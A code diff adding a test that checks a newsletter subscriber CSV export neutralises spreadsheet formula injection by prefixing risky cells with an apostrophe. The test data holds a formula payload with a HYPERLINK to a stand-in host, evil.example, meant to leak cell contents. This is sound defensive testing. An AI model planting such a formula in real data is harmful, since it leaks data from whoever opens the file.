@@ -1,3 +1,4 @@
+import { parse as parseCsv } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { SUBSCRIBER_PAGE_SIZE } from "../../app/domain/newsletter/subscriber-list";
 import { subscribers } from "../../db/schema";
@@ -68,6 +69,23 @@ describe("the back office's subscriber list", () => {
     expect(lines).toContain("'=cmd@example.com,Jazz,03/11/2026 10:00,20/11/2026 15:30,no");
     expect(lines).toContain("bob@example.com,Soul,02/11/2026 10:00,,yes");
     expect(shop.s.adminSubscribers.csv({ status: "unsubscribed" }).trimEnd().split("\r\n")).toHaveLength(2);
+  });
+
+  it("writes an e-mail address or genre a spreadsheet would run as a formula with an apostrophe in front", () => {
+    shop.t.db.delete(subscribers).run();
+    shop.t.db
+      .insert(subscribers)
+      .values([
+        { email: '=HYPERLINK("http://evil.example/?leak="&A1)@example.com', favoriteGenre: "@SUM(A1)" },
+        // An address with an apostrophe of its own keeps it when a spreadsheet opens the file.
+        { email: "'=o'neil@example.com", favoriteGenre: "-Jazz" },
+      ])
+      .run();
+    const [, ...rows] = parseCsv(shop.s.adminSubscribers.csv({ status: "all" }), { bom: true }) as string[][];
+    expect(rows.map((r) => r.slice(0, 2))).toEqual([
+      ["''=o'neil@example.com", "'-Jazz"],
+      ['\'=HYPERLINK("http://evil.example/?leak="&A1)@example.com', "'@SUM(A1)"],
+    ]);
   });
 
   it("is admin.subscribers.list in tRPC, for admins only", async () => {
